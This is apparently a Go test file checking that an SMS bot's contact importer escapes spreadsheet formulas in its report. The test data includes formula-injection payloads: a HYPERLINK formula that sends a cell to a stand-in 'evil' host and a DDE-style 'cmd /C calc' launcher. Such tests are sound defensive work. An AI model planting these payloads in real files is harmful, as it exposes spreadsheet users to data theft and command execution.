package importer_test

import (
	"regexp"
	"testing"

	"smsbot/importer"
)

// formulaCell is a cell a spreadsheet would evaluate, unless it is an
// E.164 number (e164Cell).
var (
	formulaCell = regexp.MustCompile(`^[=+\-@\t\r]`)
	e164Cell    = regexp.MustCompile(`^\+[1-9][0-9]{1,14}$`)
)

// checkNoFormulas fails when a report cell would run as a formula.
func checkNoFormulas(t testing.TB, rows []reportRow) {
	t.Helper()
	for _, r := range rows {
		for _, cell := range []string{r.Raw, r.Phone, r.Name, string(r.Outcome), r.Reason} {
			if formulaCell.MatchString(cell) && !e164Cell.MatchString(cell) {
				t.Errorf("report line %d: cell %q would run as a formula", r.Line, cell)
			}
		}
	}
}

// TestImportReportNeutralisesFormulas: names from a registration form that
// a spreadsheet would run as formulas reach the report after an
// apostrophe, and the contacts keep their names as written. Numbers in
// E.164 are left alone; a number written otherwise with a + is text.
func TestImportReportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	tb := setup(t)
	data := "phone,name\n" +
		`+12065550100,"=HYPERLINK(""http://evil/?x=""&A3,""Refund"")"` + "\n" +
		"+12065550101,@SUM(A1:A9)\n" +
		"+1 206 555 0102,+cmd|' /C calc'!A0\n" +
		"+12065550103,-2+3\n" +
		"=1+1,Eve\n"
	rep, rows, err := tb.importBytes(t, "crew", []byte(data), importer.Config{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Imported != 4 || rep.Invalid != 1 || len(rows) != 5 {
		t.Fatalf("report %+v with %d lines", rep, len(rows))
	}
	want := []struct{ raw, phone, name string }{
		{"+12065550100", "+12065550100", `'=HYPERLINK("http://evil/?x="&A3,"Refund")`},
		{"+12065550101", "+12065550101", "'@SUM(A1:A9)"},
		{"'+1 206 555 0102", "+12065550102", "'+cmd|' /C calc'!A0"},
		{"+12065550103", "+12065550103", "'-2+3"},
		{"'=1+1", "", "Eve"},
	}
	for i, w := range want {
		if r := rows[i]; r.Raw != w.raw || r.Phone != w.phone || r.Name != w.name {
			t.Errorf("report line %d = %q, %q, %q; want %q, %q, %q", r.Line, r.Raw, r.Phone, r.Name, w.raw, w.phone, w.name)
		}
	}
	checkNoFormulas(t, rows)
	if c := tb.contact(t, "+12065550101"); c.Name != "@SUM(A1:A9)" {
		t.Errorf("the contact is named %q, want the name as written", c.Name)
	}
}
